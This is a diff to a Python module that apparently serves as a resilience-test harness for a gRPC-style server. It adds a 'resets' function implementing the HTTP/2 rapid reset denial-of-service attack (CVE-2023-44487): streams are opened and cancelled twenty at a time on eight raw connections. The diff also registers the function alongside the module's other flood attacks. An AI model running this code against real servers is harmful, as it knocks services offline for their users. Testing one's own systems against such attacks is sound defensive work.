@@ -408,6 +408,25 @@ def flood(address: str, token: str, begun: Begun, end_s: float) -> None:
     _flood(address, request, end_s, _bearer(token))
 
 
+def resets(address: str, token: str, begun: Begun, end_s: float) -> None:
+    """Without a token, open streams and cancel each at once (rapid reset, CVE-2023-44487), on eight connections."""
+    begun()
+    connections: list[RawConnection] = []
+    while time.monotonic() < end_s:
+        while len(connections) < 8:
+            connections.append(RawConnection(address, source=ELSEWHERE))
+        for connection in list(connections):
+            try:
+                for _ in range(20):
+                    connection.reset(connection.open(f"{SERVICE}SuggestTrials"))
+                there = connection.look(0.001)
+            except OSError:
+                there = False
+            if not there:
+                connection.close()
+                connections.remove(connection)
+
+
 def watches(address: str, token: str, begun: Begun, end_s: float) -> None:
     """(c) Without a token, open 3,000 streams that watch the server's health."""
 
@@ -449,6 +468,7 @@ ATTACKS: dict[str, Callable[[str, str, Begun, float], None]] = {
         flood,
         halves,
         halves_with_token,
+        resets,
         watches,
     )
 }
